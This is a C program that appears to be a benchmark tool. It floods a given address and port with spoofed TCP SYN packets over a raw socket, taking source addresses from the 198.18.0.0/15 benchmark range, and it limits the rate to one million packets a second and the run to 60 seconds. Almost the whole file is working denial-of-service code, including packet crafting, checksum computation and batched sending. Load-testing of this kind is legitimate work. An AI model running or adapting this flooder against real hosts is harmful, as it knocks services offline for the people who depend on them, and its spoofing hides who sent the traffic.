/*
 * A bounded SYN flood, for a network namespace of the benchmark's own: RATE a second for SECONDS, from addresses and ports that nobody has.
 *
 *   flood ADDRESS PORT RATE SECONDS
 *
 * Sources are in 198.18.0.0/15 (RFC 2544: for benchmarks), which nobody answers for. Says "begin", and at the end one line of JSON.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { BATCH = 32, MOST_RATE = 1000000, MOST_SECONDS = 60 };

struct packet {
  struct iphdr ip;
  struct tcphdr tcp;
  uint8_t options[4]; /* MSS 1460 */
} __attribute__((packed));

static double now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return t.tv_sec + t.tv_nsec / 1e9;
}

static uint32_t dice(void) {
  static uint64_t x = 88172645463325252ull;
  x ^= x << 13;
  x ^= x >> 7;
  x ^= x << 17;
  return (uint32_t)(x >> 16);
}

static uint32_t sum(const void *bytes, size_t length, uint32_t from) {
  const uint8_t *b = bytes;
  for (size_t i = 0; i + 1 < length; i += 2) from += b[i] << 8 | b[i + 1];
  return from;
}

static uint16_t fold(uint32_t s) {
  while (s >> 16) s = (s & 0xffff) + (s >> 16);
  return htons((uint16_t)~s);
}

static void make(struct packet *p, struct sockaddr_in to) {
  memset(p, 0, sizeof *p);
  p->ip = (struct iphdr){.version = 4, .ihl = 5, .tot_len = htons(sizeof *p), .ttl = 64, .protocol = IPPROTO_TCP, .daddr = to.sin_addr.s_addr};
  p->ip.saddr = htonl(0xc6120000 | (dice() & 0x1ffff));
  p->tcp.source = htons(1024 + dice() % 64000);
  p->tcp.dest = to.sin_port;
  p->tcp.seq = dice();
  p->tcp.doff = 6;
  p->tcp.syn = 1;
  p->tcp.window = htons(64240);
  memcpy(p->options, "\x02\x04\x05\xb4", 4);
  uint32_t pseudo = sum(&p->ip.saddr, 8, IPPROTO_TCP + sizeof p->tcp + sizeof p->options);
  p->tcp.check = fold(sum(&p->tcp, sizeof p->tcp + sizeof p->options, pseudo));
}

int main(int argc, char **argv) {
  struct sockaddr_in to = {.sin_family = AF_INET};
  int rate = argc == 5 ? atoi(argv[3]) : 0;
  double seconds = argc == 5 ? atof(argv[4]) : 0;
  if (argc != 5 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1 || rate < 1 || rate > MOST_RATE || !(seconds > 0 && seconds <= MOST_SECONDS)) {
    fputs("flood ADDRESS PORT RATE SECONDS\n", stderr);
    return 2;
  }
  to.sin_port = htons(atoi(argv[2]));
  int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (fd < 0) {
    fprintf(stderr, "flood: a raw socket: %s\n", strerror(errno));
    return 1;
  }
  static struct packet packets[BATCH];
  struct iovec parts[BATCH];
  struct mmsghdr messages[BATCH] = {0};
  for (int i = 0; i < BATCH; i++) {
    parts[i] = (struct iovec){.iov_base = &packets[i], .iov_len = sizeof packets[i]};
    messages[i].msg_hdr = (struct msghdr){.msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &parts[i], .msg_iovlen = 1};
  }
  unsigned long long sent = 0, refused = 0;
  double from = now(), t;
  puts("begin");
  fflush(stdout);
  while ((t = now() - from) < seconds) {
    long long due = (long long)(t * rate) - (long long)(sent + refused);
    if (due < 1) {
      struct timespec pause = {.tv_nsec = 50000};
      nanosleep(&pause, NULL);
      continue;
    }
    int count = due < BATCH ? (int)due : BATCH;
    for (int i = 0; i < count; i++) make(&packets[i], to);
    int n = sendmmsg(fd, messages, count, 0);
    if (n < 0) refused++;
    else sent += n;
  }
  printf("{\"sent\":%llu,\"refused\":%llu,\"seconds\":%.6f}\n", sent, refused, now() - from);
  return 0;
}
